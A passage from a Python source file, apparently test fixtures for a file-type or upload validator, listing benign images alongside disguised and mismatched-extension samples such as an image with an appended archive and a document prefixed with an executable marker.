    "B2": [(f"a.{ending}", photo(ending)) for ending in ("jpg", "png", "webp")],
    "G1": [("a.jpg", picture("jpg") + archive("a.class")), ("a.docx", EXE + office("docx"))],
    "G2": [("a.pdf", picture("png")), ("a.exe", EXE), ("a.doc", office("docx")), ("a.xlsx", office("docx"))],
}
